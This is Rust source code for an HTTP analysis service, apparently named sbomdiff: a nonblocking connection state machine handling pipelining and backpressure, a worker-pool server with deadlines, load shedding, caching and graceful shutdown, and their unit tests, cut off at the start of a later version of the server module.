    /// The last fill stopped at a budget (chunk cap or unparsed-byte cap)
    /// rather than `WouldBlock`/EOF: kernel data may still be pending and
    /// edge-triggered epoll will never re-announce it.
    read_pending: bool,
}

impl Conn {
    /// Wraps an accepted nonblocking stream.
    pub fn new(stream: TcpStream, generation: u64, now: Instant) -> Conn {
        Conn {
            stream,
            generation,
            rbuf: Vec::new(),
            rpos: 0,
            wqueue: VecDeque::new(),
            wpos: 0,
            next_seq: 0,
            next_write_seq: 0,
            pending: BTreeMap::new(),
            inflight: 0,
            closing: false,
            read_closed: false,
            last_activity: now,
            partial_since: None,
            read_pending: false,
        }
    }

    /// Drains the socket into the read buffer until `WouldBlock`, EOF, or
    /// a bounded number of chunks (so one greedy peer cannot starve the
    /// event loop under edge-triggered readiness). A budget-limited stop
    /// sets [`Conn::wants_fill`]: the event loop must come back and fill
    /// again, because the bytes left in the kernel buffer will never
    /// generate another edge-triggered event.
    pub fn fill(&mut self, now: Instant) -> FillOutcome {
        if self.read_closed || self.closing {
            // Closing connections ignore further input (but must still
            // consume the EOF event to notice a vanished peer).
            return self.drain_discard();
        }
        self.read_pending = false;
        let mut chunks = 0;
        loop {
            let old_len = self.rbuf.len();
            // Cap buffered-but-unparsed bytes: pipelined completes are
            // consumed eagerly by `extract_requests`, so growth past the
            // cap means parse backpressure has kicked in. Stop reading;
            // `wants_fill` turns true again once the parser catches up.
            if old_len - self.rpos > MAX_UNPARSED_BYTES {
                self.read_pending = true;
                return FillOutcome::Progress;
            }
            self.rbuf.resize(old_len + READ_CHUNK, 0);
            match self.stream.read(&mut self.rbuf[old_len..]) {
                Ok(0) => {
                    self.rbuf.truncate(old_len);
                    self.read_closed = true;
                    self.last_activity = now;
                    return FillOutcome::Eof;
                }
                Ok(n) => {
                    self.rbuf.truncate(old_len + n);
                    self.last_activity = now;
                    chunks += 1;
                    if chunks >= MAX_FILL_CHUNKS {
                        self.read_pending = true;
                        return FillOutcome::Progress;
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    self.rbuf.truncate(old_len);
                    return FillOutcome::Progress;
                }
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {
                    self.rbuf.truncate(old_len);
                }
                Err(_) => {
                    self.rbuf.truncate(old_len);
                    return FillOutcome::Broken;
                }
            }
        }
    }

    /// Discards pending socket input on a closing connection, with the
    /// same chunk budget as [`Conn::fill`] so a fast peer flooding a
    /// closing connection cannot pin the reactor thread.
    fn drain_discard(&mut self) -> FillOutcome {
        self.read_pending = false;
        let mut sink = [0u8; 4096];
        let mut chunks = 0;
        loop {
            match self.stream.read(&mut sink) {
                Ok(0) => {
                    self.read_closed = true;
                    return FillOutcome::Eof;
                }
                Ok(_) => {
                    chunks += 1;
                    if chunks >= MAX_FILL_CHUNKS {
                        self.read_pending = true;
                        return FillOutcome::Progress;
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    return FillOutcome::Progress
                }
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(_) => return FillOutcome::Broken,
            }
        }
    }

    /// True when the event loop should call [`Conn::fill`] again without
    /// waiting for a readiness event: the last fill stopped at a budget
    /// (so kernel-buffered bytes may be stranded — under `EPOLLET` they
    /// will never be re-announced) and the unparsed-byte cap leaves room
    /// to ingest them. While parse backpressure holds the buffer at the
    /// cap this is false; the completion that frees a pipeline slot
    /// re-parses, making room, and it turns true again.
    pub fn wants_fill(&self) -> bool {
        self.read_pending
            && (self.closing
                || self.read_closed
                || self.rbuf.len() - self.rpos <= MAX_UNPARSED_BYTES)
    }

    /// Parses as many complete pipelined requests as the buffer holds,
    /// assigning each its sequence number. Stops at `max_pipeline`
    /// unanswered requests (backpressure) or on a framing error — the
    /// error is *not* answered here; the caller converts it via
    /// [`Conn::begin_close_with_seq`] so it slots into the pipeline order.
    pub fn extract_requests(
        &mut self,
        max_pipeline: usize,
        now: Instant,
        out: &mut Vec<ParsedRequest>,
    ) -> (ParseHalt, Option<crate::http::HttpError>) {
        if self.closing {
            return (ParseHalt::Errored, None);
        }
        loop {
            if self.unanswered() >= max_pipeline {
                return (ParseHalt::Backpressure, None);
            }
            match parse_request(&self.rbuf[self.rpos..]) {
                ParseStatus::Complete {
                    request,
                    consumed,
                    keep_alive,
                } => {
                    self.rpos += consumed;
                    self.partial_since = None;
                    let seq = self.next_seq;
                    self.next_seq += 1;
                    if !keep_alive {
                        // Last request on this connection: stop parsing,
                        // close once its response (and its predecessors')
                        // are on the wire.
                        self.closing = true;
                        self.compact();
                        out.push(ParsedRequest {
                            seq,
                            request,
                            keep_alive,
                        });
                        return (ParseHalt::Errored, None);
                    }
                    out.push(ParsedRequest {
                        seq,
                        request,
                        keep_alive,
                    });
                }
                ParseStatus::Partial(phase) => {
                    self.compact();
                    if self.rpos == self.rbuf.len() {
                        // Nothing buffered: idle, not partial.
                        self.partial_since = None;
                    } else if self.partial_since.is_none_or(|(_, prev)| prev != phase) {
                        // Entered (or advanced within) a partial request:
                        // the timeout clock restarts per phase, so a slow
                        // peer gets header_timeout for the head and again
                        // for the body, never an accumulated total.
                        self.partial_since = Some((now, phase));
                    }
                    return (ParseHalt::NeedMore, None);
                }
                ParseStatus::Error(err) => {
                    self.partial_since = None;
                    return (ParseHalt::Errored, Some(err));
                }
            }
        }
    }

    /// Requests parsed but not yet answered on the wire.
    fn unanswered(&self) -> usize {
        (self.next_seq - self.next_write_seq) as usize
    }

    /// Reclaims consumed buffer space once the cursor has moved far enough
    /// to make the memmove worthwhile.
    fn compact(&mut self) {
        if self.rpos == self.rbuf.len() {
            self.rbuf.clear();
            self.rpos = 0;
        } else if self.rpos > 64 * 1024 {
            self.rbuf.drain(..self.rpos);
            self.rpos = 0;
        }
    }

    /// Assigns a sequence number for a reactor-generated response (a 400,
    /// 408, 413 …) and marks the connection closing: nothing further is
    /// parsed, and the connection tears down once everything through this
    /// seq is written.
    pub fn begin_close_with_seq(&mut self) -> u64 {
        let seq = self.next_seq;
        self.next_seq += 1;
        self.closing = true;
        self.partial_since = None;
        seq
    }

    /// Parks a completed response until its pipeline turn, then moves every
    /// now-in-order response into the write queue. `close` closes the
    /// connection after this response reaches the wire.
    pub fn complete(&mut self, seq: u64, buf: WriteBuf, close: bool) {
        self.pending.insert(seq, (buf, close));
        while let Some((buf, close)) = self.pending.remove(&self.next_write_seq) {
            self.next_write_seq += 1;
            self.wqueue.push_back(buf);
            if close {
                self.closing = true;
                // Later completions (there should be none: parsing stopped)
                // are dropped on teardown.
                break;
            }
        }
    }

    /// Flushes the write queue until empty or `WouldBlock`.
    ///
    /// Returns `Ok(true)` when bytes remain queued (the event loop keeps
    /// waiting for writability), `Ok(false)` when the queue drained.
    ///
    /// # Errors
    ///
    /// A broken socket: the caller tears the connection down.
    pub fn flush(&mut self) -> std::io::Result<bool> {
        while let Some(front) = self.wqueue.front() {
            let bytes = front.as_bytes();
            while self.wpos < bytes.len() {
                match self.stream.write(&bytes[self.wpos..]) {
                    Ok(0) => return Err(std::io::ErrorKind::WriteZero.into()),
                    Ok(n) => self.wpos += n,
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return Ok(true),
                    Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                    Err(e) => return Err(e),
                }
            }
            self.wqueue.pop_front();
            self.wpos = 0;
        }
        Ok(false)
    }

    /// True when the connection has nothing left to do and should close:
    /// it is closing (error/Connection: close) or half-closed, with no
    /// in-flight work and an empty write queue.
    pub fn finished(&self) -> bool {
        (self.closing || self.read_closed)
            && self.inflight == 0
            && self.wqueue.is_empty()
            && (self.closing || self.rpos == self.rbuf.len())
            && self.pending.is_empty()
    }

    /// True when the connection is mid-request (the timeout scan uses the
    /// phase to label the 408) — closing connections never time out this
    /// way, they are already on their way down.
    pub fn partial_phase(&self) -> Option<(Instant, ReadPhase)> {
        if self.closing {
            None
        } else {
            self.partial_since
        }
    }

    /// True when the connection is idle: keep-alive, between requests,
    /// nothing buffered, nothing owed.
    pub fn is_idle(&self) -> bool {
        !self.closing
            && !self.read_closed
            && self.inflight == 0
            && self.wqueue.is_empty()
            && self.pending.is_empty()
            && self.rpos == self.rbuf.len()
            && self.partial_since.is_none()
    }

    /// True when the write queue holds bytes (event loop: wait for
    /// writability).
    pub fn wants_write(&self) -> bool {
        !self.wqueue.is_empty()
    }

    /// True when the connection owes the peer nothing: no dispatched work,
    /// no parked completions, no unflushed bytes. Graceful shutdown closes
    /// these immediately and waits (briefly) for the rest.
    pub fn owes_nothing(&self) -> bool {
        self.inflight == 0 && self.pending.is_empty() && self.wqueue.is_empty()
    }

    /// True once parsing has stopped for good.
    pub fn is_closing(&self) -> bool {
        self.closing
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{TcpListener, TcpStream};

    fn pair() -> (TcpStream, TcpStream) {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let client = TcpStream::connect(addr).unwrap();
        let (server, _) = listener.accept().unwrap();
        server.set_nonblocking(true).unwrap();
        (client, server)
    }

    fn conn(server: TcpStream) -> Conn {
        Conn::new(server, 1, Instant::now())
    }

    #[test]
    fn parses_pipelined_requests_in_order() {
        let (mut client, server) = pair();
        let mut c = conn(server);
        client
            .write_all(b"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n")
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(30));
        assert_eq!(c.fill(Instant::now()), FillOutcome::Progress);
        let mut out = Vec::new();
        let (halt, err) = c.extract_requests(64, Instant::now(), &mut out);
        assert_eq!(halt, ParseHalt::NeedMore);
        assert!(err.is_none());
        assert_eq!(out.len(), 2);
        assert_eq!((out[0].seq, out[0].request.path.as_str()), (0, "/a"));
        assert_eq!((out[1].seq, out[1].request.path.as_str()), (1, "/b"));
        assert!(c.is_idle());
    }

    #[test]
    fn out_of_order_completions_write_in_request_order() {
        let (mut client, server) = pair();
        let mut c = conn(server);
        client
            .write_all(b"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n")
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(30));
        c.fill(Instant::now());
        let mut out = Vec::new();
        c.extract_requests(64, Instant::now(), &mut out);
        // Second response completes first: nothing may reach the wire yet.
        c.complete(1, WriteBuf::Owned(b"B".to_vec()), false);
        assert!(!c.wants_write());
        c.complete(0, WriteBuf::Owned(b"A".to_vec()), false);
        assert!(c.wants_write());
        assert!(!c.flush().unwrap());
        let mut got = [0u8; 2];
        use std::io::Read as _;
        client.read_exact(&mut got).unwrap();
        assert_eq!(&got, b"AB");
    }

    #[test]
    fn pipeline_cap_applies_backpressure() {
        let (mut client, server) = pair();
        let mut c = conn(server);
        for _ in 0..4 {
            client.write_all(b"GET /x HTTP/1.1\r\n\r\n").unwrap();
        }
        std::thread::sleep(std::time::Duration::from_millis(30));
        c.fill(Instant::now());
        let mut out = Vec::new();
        let (halt, _) = c.extract_requests(2, Instant::now(), &mut out);
        assert_eq!(halt, ParseHalt::Backpressure);
        assert_eq!(out.len(), 2);
        // Answering frees pipeline slots and parsing resumes.
        c.complete(0, WriteBuf::Owned(b"A".to_vec()), false);
        let (halt, _) = c.extract_requests(2, Instant::now(), &mut out);
        assert_eq!(halt, ParseHalt::Backpressure);
        assert_eq!(out.len(), 3);
    }

    #[test]
    fn partial_request_reports_phase_for_timeouts() {
        let (mut client, server) = pair();
        let mut c = conn(server);
        client.write_all(b"POST /v1/diff HTTP/1").unwrap();
        std::thread::sleep(std::time::Duration::from_millis(30));
        c.fill(Instant::now());
        let mut out = Vec::new();
        c.extract_requests(64, Instant::now(), &mut out);
        assert!(out.is_empty());
        assert!(matches!(c.partial_phase(), Some((_, ReadPhase::Head))));
        assert!(!c.is_idle());
        // Completing the head moves the phase to Body.
        client
            .write_all(b".1\r\nContent-Length: 5\r\n\r\nab")
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(30));
        c.fill(Instant::now());
        c.extract_requests(64, Instant::now(), &mut out);
        assert!(matches!(c.partial_phase(), Some((_, ReadPhase::Body))));
        // And the body completing clears it.
        client.write_all(b"cde").unwrap();
        std::thread::sleep(std::time::Duration::from_millis(30));
        c.fill(Instant::now());
        c.extract_requests(64, Instant::now(), &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].request.body, b"abcde");
        assert!(c.partial_phase().is_none());
    }

    #[test]
    fn connection_close_stops_parsing_and_finishes_after_flush() {
        let (mut client, server) = pair();
        let mut c = conn(server);
        client
            .write_all(b"GET /a HTTP/1.1\r\nConnection: close\r\n\r\nGET /zombie HTTP/1.1\r\n\r\n")
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(30));
        c.fill(Instant::now());
        let mut out = Vec::new();
        let (halt, err) = c.extract_requests(64, Instant::now(), &mut out);
        assert_eq!(halt, ParseHalt::Errored);
        assert!(err.is_none());
        assert_eq!(out.len(), 1, "the pipelined zombie is never parsed");
        assert!(!out[0].keep_alive);
        assert!(c.is_closing());
        c.inflight += 1;
        assert!(!c.finished(), "response still owed");
        c.inflight -= 1;
        c.complete(0, WriteBuf::Owned(b"R".to_vec()), true);
        assert!(!c.flush().unwrap());
        assert!(c.finished());
    }

    #[test]
    fn eof_with_inflight_work_is_half_close_not_teardown() {
        let (mut client, server) = pair();
        let mut c = conn(server);
        client.write_all(b"GET /a HTTP/1.1\r\n\r\n").unwrap();
        client.shutdown(std::net::Shutdown::Write).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(30));
        // One fill sees the data (and possibly the EOF as well).
        let mut saw_eof = c.fill(Instant::now()) == FillOutcome::Eof;
        let mut out = Vec::new();
        c.extract_requests(64, Instant::now(), &mut out);
        assert_eq!(out.len(), 1);
        c.inflight += 1;
        if !saw_eof {
            saw_eof = c.fill(Instant::now()) == FillOutcome::Eof;
        }
        assert!(saw_eof);
        assert!(!c.finished(), "owed response blocks teardown");
        c.inflight -= 1;
        c.complete(0, WriteBuf::Owned(b"R".to_vec()), false);
        assert!(!c.flush().unwrap());
        assert!(c.finished());
        drop(c); // teardown closes the socket so the client sees EOF
        let mut text = String::new();
        use std::io::Read as _;
        client.read_to_string(&mut text).unwrap();
        assert_eq!(text, "R");
    }

    #[test]
    fn read_budget_yields_without_stranding_kernel_bytes() {
        // A body burst larger than fill's chunk budget must still be fully
        // ingested by wants_fill-driven re-fills: under EPOLLET the kernel
        // never re-announces bytes a budget-limited fill left behind.
        let (client, server) = pair();
        let mut c = conn(server);
        let body = vec![b'x'; 400 * 1024];
        let mut raw = format!(
            "POST /v1/diff HTTP/1.1\r\nContent-Length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        raw.extend_from_slice(&body);
        let writer = std::thread::spawn(move || {
            let mut client = client;
            client.write_all(&raw).unwrap();
            client // keep the socket open: no EOF rescues a stalled read
        });
        let mut out = Vec::new();
        let deadline = Instant::now() + std::time::Duration::from_secs(10);
        while out.is_empty() && Instant::now() < deadline {
            let now = Instant::now();
            assert_ne!(c.fill(now), FillOutcome::Broken);
            c.extract_requests(64, now, &mut out);
            if !c.wants_fill() {
                // Drained to WouldBlock: the event loop would wait for
                // a readiness event here; give the writer time to land
                // more bytes.
                std::thread::sleep(std::time::Duration::from_millis(1));
            }
        }
        let _client = writer.join().unwrap();
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].request.body.len(), 400 * 1024);
        assert!(!c.wants_fill());
    }

    #[test]
    fn closing_connection_drain_is_bounded() {
        let (mut client, server) = pair();
        let mut c = conn(server);
        c.begin_close_with_seq(); // closing: further input is discarded
        client.write_all(&vec![b'j'; 128 * 1024]).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(50));
        // One fill visit discards at most its chunk budget, then yields
        // with wants_fill set so the event loop comes back instead of
        // spinning here while other connections starve.
        assert_eq!(c.fill(Instant::now()), FillOutcome::Progress);
        assert!(c.wants_fill());
        let deadline = Instant::now() + std::time::Duration::from_secs(10);
        while c.wants_fill() && Instant::now() < deadline {
            c.fill(Instant::now());
        }
        assert!(!c.wants_fill());
    }

    #[test]
    fn shared_buffers_write_without_copying() {
        let (mut client, server) = pair();
        let mut c = conn(server);
        let shared: Arc<[u8]> = Arc::from(b"SHARED".to_vec().into_boxed_slice());
        c.complete(0, WriteBuf::Shared(Arc::clone(&shared)), false);
        assert!(!c.flush().unwrap());
        let mut got = [0u8; 6];
        use std::io::Read as _;
        client.read_exact(&mut got).unwrap();
        assert_eq!(&got, b"SHARED");
        assert_eq!(Arc::strong_count(&shared), 1, "queue released its clone");
    }
}

//! The serving machinery: acceptor, bounded queue, worker pool, shutdown.
//!
//! Request lifecycle:
//!
//! 1. the acceptor thread accepts a TCP connection and pushes it (with its
//!    accept timestamp) into the bounded [`BoundedQueue`]; a full queue is
//!    answered `429` right on the acceptor — admission control happens
//!    before any parsing, so malformed floods cannot occupy workers;
//! 2. a worker pops the connection, and first checks the per-request
//!    deadline: work that already waited longer than `deadline` in the
//!    queue is answered `503` without being executed (its result could not
//!    reach the client in time anyway);
//! 3. the worker parses the request (`400`/`413` on bad input), consults
//!    the response cache for POST endpoints, executes the handler on a
//!    miss, and writes the response.
//!
//! Worker count follows the same `Jobs` policy as the batch pipeline
//! (`--jobs N`, `SBOMDIFF_JOBS`, available parallelism). Shutdown is
//! graceful: stop accepting, drain the queue, join every worker.

use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::api::AppState;
use crate::http::{read_request, write_response, HttpError, Request, Response};
use crate::metrics::Endpoint;
use crate::queue::BoundedQueue;
use crate::respcache::ResponseCache;

/// Server configuration.
#[derive(Debug, Clone)]
pub struct ServeConfig {
    /// Port to bind on 127.0.0.1 (`0` picks an ephemeral port).
    pub port: u16,
    /// Worker threads (`0` → `Jobs` default policy).
    pub jobs: usize,
    /// Bounded queue capacity; overflow is answered 429.
    pub queue_capacity: usize,
    /// Per-request deadline measured from accept; exceeded → 503.
    pub deadline: Duration,
    /// Response-cache capacity in entries.
    pub cache_capacity: usize,
    /// Default seed for requests that do not carry one.
    pub seed: u64,
}

impl Default for ServeConfig {
    fn default() -> Self {
        ServeConfig {
            port: 0,
            jobs: 0,
            queue_capacity: 128,
            deadline: Duration::from_secs(10),
            cache_capacity: 256,
            seed: 42,
        }
    }
}

/// Socket read/write timeout so a stalled peer cannot pin a worker.
const IO_TIMEOUT: Duration = Duration::from_secs(5);

struct Job {
    stream: TcpStream,
    accepted_at: Instant,
}

/// A running server; dropping the handle does **not** stop it — call
/// [`ServerHandle::shutdown`].
pub struct Server;

/// Handle to a running server.
pub struct ServerHandle {
    addr: SocketAddr,
    state: Arc<AppState>,
    queue: Arc<BoundedQueue<Job>>,
    stop: Arc<AtomicBool>,
    acceptor: Option<std::thread::JoinHandle<()>>,
    workers: Vec<std::thread::JoinHandle<()>>,
}

impl Server {
    /// Binds `127.0.0.1:port` and starts the acceptor and worker threads.
    ///
    /// # Errors
    ///
    /// Propagates socket errors (bind failure, mostly).
    pub fn start(config: ServeConfig) -> std::io::Result<ServerHandle> {
        let listener = TcpListener::bind(("127.0.0.1", config.port))?;
        listener.set_nonblocking(true)?;
        let addr = listener.local_addr()?;
        let state = Arc::new(AppState::new(config.seed, config.cache_capacity));
        let queue = Arc::new(BoundedQueue::new(config.queue_capacity));
        let stop = Arc::new(AtomicBool::new(false));

        let workers: Vec<_> = (0..sbomdiff_parallel::Jobs::new(config.jobs).get())
            .map(|i| {
                let state = Arc::clone(&state);
                let queue = Arc::clone(&queue);
                let deadline = config.deadline;
                std::thread::Builder::new()
                    .name(format!("sbomdiff-worker-{i}"))
                    .spawn(move || {
                        while let Some(job) = queue.pop() {
                            serve_connection(&state, &queue, job, deadline);
                        }
                    })
                    .expect("spawn worker")
            })
            .collect();

        let acceptor = {
            let queue = Arc::clone(&queue);
            let state = Arc::clone(&state);
            let stop = Arc::clone(&stop);
            std::thread::Builder::new()
                .name("sbomdiff-acceptor".into())
                .spawn(move || accept_loop(listener, &queue, &state, &stop))
                .expect("spawn acceptor")
        };

        Ok(ServerHandle {
            addr,
            state,
            queue,
            stop,
            acceptor: Some(acceptor),
            workers,
        })
    }
}

fn accept_loop(
    listener: TcpListener,
    queue: &BoundedQueue<Job>,
    state: &AppState,
    stop: &AtomicBool,
) {
    while !stop.load(Ordering::SeqCst) {
        match listener.accept() {
            Ok((stream, _peer)) => {
                let _ = stream.set_read_timeout(Some(IO_TIMEOUT));
                let _ = stream.set_write_timeout(Some(IO_TIMEOUT));
                let job = Job {
                    stream,
                    accepted_at: Instant::now(),
                };
                if let Err(rejected) = queue.push(job) {
                    // Shed load at the door: the client gets an immediate
                    // 429 instead of unbounded queueing.
                    state.metrics.record_rejected();
                    state
                        .metrics
                        .record(Endpoint::Other, 429, rejected.accepted_at.elapsed());
                    write_and_drain(
                        &rejected.stream,
                        &Response::error(429, "server is at capacity, retry later"),
                    );
                }
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(2));
            }
            Err(_) => std::thread::sleep(Duration::from_millis(10)),
        }
    }
}

fn serve_connection(state: &AppState, queue: &BoundedQueue<Job>, job: Job, deadline: Duration) {
    let Job {
        stream,
        accepted_at,
    } = job;
    // Deadline check before any work: a request that already sat in the
    // queue past its deadline is not worth executing.
    if accepted_at.elapsed() > deadline {
        state.metrics.record_timeout();
        state
            .metrics
            .record(Endpoint::Other, 503, accepted_at.elapsed());
        write_and_drain(
            &stream,
            &Response::error(503, "deadline exceeded while queued"),
        );
        return;
    }
    let request = match read_request(&stream) {
        Ok(request) => request,
        Err(HttpError::Malformed(msg)) => {
            let response = Response::error(400, msg);
            write_and_drain(&stream, &response);
            state
                .metrics
                .record(Endpoint::Other, 400, accepted_at.elapsed());
            return;
        }
        Err(HttpError::TooLarge) => {
            let response = Response::error(413, "request too large");
            write_and_drain(&stream, &response);
            state
                .metrics
                .record(Endpoint::Other, 413, accepted_at.elapsed());
            return;
        }
        Err(HttpError::Io(_)) => return, // peer went away; nothing to answer
    };
    let endpoint = Endpoint::classify(&request.path);
    // The admission check above ran before the request was read, and
    // `read_request` can block on a slow peer for up to IO_TIMEOUT — long
    // enough for a request admitted just under the deadline to expire
    // before any work starts. Re-check here so a doomed job never burns a
    // worker slot on the handler.
    if accepted_at.elapsed() > deadline {
        state.metrics.record_timeout();
        state.metrics.record(endpoint, 503, accepted_at.elapsed());
        write_and_drain(
            &stream,
            &Response::error(503, "deadline exceeded while queued"),
        );
        return;
    }
    // Worker-pool boundary: no panic — injected or genuine — may take the
    // worker thread down (a dead worker would silently shrink the pool).
    // Handlers already degrade gracefully, so this catch is a counted
    // safety net, not a control-flow path; the chaos harness asserts the
    // counter stays at zero.
    let response = match std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        execute_cached(state, &request, queue.len())
    })) {
        Ok(response) => response,
        Err(_) => {
            state.metrics.record_worker_panic();
            Response::error(503, "request aborted by internal fault")
        }
    };
    respond(state, &stream, endpoint, accepted_at, &response);
}

/// Looks up / fills the response cache around the pure handler. Only
/// successful POST analysis responses are cached: GETs are trivially cheap
/// and error responses must keep carrying their specific messages.
fn execute_cached(state: &AppState, request: &Request, queue_depth: usize) -> Response {
    let cacheable = request.method == "POST" && request.path.starts_with("/v1/");
    if !cacheable {
        return crate::api::handle(state, request, queue_depth);
    }
    let key = ResponseCache::key(&request.path, &request.body);
    if let Some(cached) = state.cache.get(key) {
        return (*cached).clone();
    }
    let response = crate::api::handle(state, request, queue_depth);
    // Degraded responses are partial by construction and must not outlive
    // the fault that shaped them, so they never enter the cache.
    if response.is_success() && !response.degraded {
        state.cache.put(key, Arc::new(response.clone()));
    }
    response
}

/// Writes an error response on a connection whose request was never fully
/// read, then drains the peer's remaining input.
///
/// Closing a socket with unread received data makes the kernel send RST,
/// which discards the response still in flight to the client. Half-closing
/// the write side first and reading the peer's leftovers until EOF (bounded
/// by a short timeout) lets the response land before the connection dies.
fn write_and_drain(stream: &TcpStream, response: &Response) {
    use std::io::Read;
    let _ = write_response(stream, response);
    let _ = stream.shutdown(std::net::Shutdown::Write);
    let _ = stream.set_read_timeout(Some(Duration::from_millis(100)));
    let mut reader = stream;
    let mut sink = [0u8; 4096];
    for _ in 0..64 {
        match reader.read(&mut sink) {
            Ok(0) | Err(_) => break,
            Ok(_) => {}
        }
    }
}

fn respond(
    state: &AppState,
    stream: &TcpStream,
    endpoint: Endpoint,
    accepted_at: Instant,
    response: &Response,
) {
    let _ = write_response(stream, response);
    state
        .metrics
        .record(endpoint, response.status, accepted_at.elapsed());
}

impl ServerHandle {
    /// The bound address (useful with `port: 0`).
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// The shared state (metrics/cache introspection for tests and loadgen).
    pub fn state(&self) -> &AppState {
        &self.state
    }

    /// Graceful shutdown: stop accepting, drain queued connections, join
    /// all threads. Idempotent.
    pub fn shutdown(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(acceptor) = self.acceptor.take() {
            let _ = acceptor.join();
        }
        self.queue.close();
        for worker in self.workers.drain(..) {
            let _ = worker.join();
        }
    }
}

impl Drop for ServerHandle {
    fn drop(&mut self) {
        self.shutdown();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::{Read, Write};

    fn http_request(addr: SocketAddr, method: &str, path: &str, body: &str) -> (u16, String) {
        let mut stream = TcpStream::connect(addr).expect("connect");
        let raw = format!(
            "{method} {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        stream.write_all(raw.as_bytes()).unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        let status: u16 = text
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .expect("status line");
        let body = text
            .split_once("\r\n\r\n")
            .map(|(_, b)| b.to_string())
            .unwrap_or_default();
        (status, body)
    }

    #[test]
    fn serves_healthz_and_metrics() {
        let mut handle = Server::start(ServeConfig::default()).unwrap();
        let (status, body) = http_request(handle.addr(), "GET", "/healthz", "");
        assert_eq!(status, 200);
        assert!(body.contains("\"ok\""));
        let (status, body) = http_request(handle.addr(), "GET", "/metrics", "");
        assert_eq!(status, 200);
        assert!(body.contains("sbomdiff_requests_total"));
        handle.shutdown();
    }

    #[test]
    fn cache_serves_identical_bodies() {
        let mut handle = Server::start(ServeConfig::default()).unwrap();
        let payload = r#"{"files":{"requirements.txt":"numpy==1.19.2\n"}}"#;
        let (s1, b1) = http_request(handle.addr(), "POST", "/v1/analyze", payload);
        let (s2, b2) = http_request(handle.addr(), "POST", "/v1/analyze", payload);
        assert_eq!((s1, s2), (200, 200));
        assert_eq!(b1, b2);
        assert!(handle.state().cache.hits() >= 1);
        handle.shutdown();
    }

    #[test]
    fn zero_deadline_times_out_queued_work() {
        let mut handle = Server::start(ServeConfig {
            deadline: Duration::ZERO,
            ..ServeConfig::default()
        })
        .unwrap();
        let (status, _) = http_request(handle.addr(), "GET", "/healthz", "");
        assert_eq!(status, 503);
        assert!(handle.state().metrics.timeouts() >= 1);
        handle.shutdown();
    }

    #[test]
    fn deadline_rechecked_after_slow_request_read() {
        // A client admitted just under the deadline that trickles its
        // request in must get 503 at the post-read re-check: the first
        // deadline gate passed (the worker dequeued immediately), but by
        // the time the body arrived the deadline was gone.
        let mut handle = Server::start(ServeConfig {
            deadline: Duration::from_millis(100),
            ..ServeConfig::default()
        })
        .unwrap();
        let mut stream = TcpStream::connect(handle.addr()).unwrap();
        let body = "{}";
        let head = format!(
            "POST /v1/diff HTTP/1.1\r\nHost: localhost\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        stream.write_all(head.as_bytes()).unwrap();
        // Hold the body back until the deadline is long gone.
        std::thread::sleep(Duration::from_millis(400));
        stream.write_all(body.as_bytes()).unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        assert!(text.starts_with("HTTP/1.1 503 "), "{text}");
        assert!(handle.state().metrics.timeouts() >= 1);
        handle.shutdown();
    }

    #[test]
    fn malformed_request_line_is_400_not_drop() {
        let mut handle = Server::start(ServeConfig::default()).unwrap();
        let mut stream = TcpStream::connect(handle.addr()).unwrap();
        stream.write_all(b"BOGUS\r\n\r\n").unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        assert!(text.starts_with("HTTP/1.1 400 "), "{text}");
        handle.shutdown();
    }

    #[test]
    fn shutdown_closes_the_port() {
        let mut handle = Server::start(ServeConfig::default()).unwrap();
        let addr = handle.addr();
        handle.shutdown();
        // After shutdown the acceptor is gone; a fresh connection must not
        // be answered (connect may succeed into the dead listener backlog,
        // but no response will ever come — use a short read timeout).
        if let Ok(stream) = TcpStream::connect(addr) {
            let mut stream = stream;
            stream
                .set_read_timeout(Some(Duration::from_millis(200)))
                .unwrap();
            stream.write_all(b"GET /healthz HTTP/1.1\r\n\r\n").unwrap();
            let mut buf = [0u8; 16];
            assert!(matches!(stream.read(&mut buf), Ok(0) | Err(_)));
        }
    }
}

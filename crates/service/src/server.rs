//! The serving machinery: epoll reactor, bounded queue, worker pool,
//! graceful shutdown (DESIGN.md §18).
//!
//! Request lifecycle:
//!
//! 1. the reactor thread accepts connections nonblocking (with
//!    `TCP_NODELAY` and an explicit listen backlog), registers each socket
//!    edge-triggered, and drains readiness events into per-connection
//!    [`Conn`] state machines — HTTP/1.1 keep-alive and pipelining are
//!    handled entirely here, one thread, zero locks on the read path;
//! 2. every parsed request is stamped and pushed into the bounded
//!    [`BoundedQueue`]; a full queue is answered `429` in request order on
//!    the same connection — admission control happens before any handler
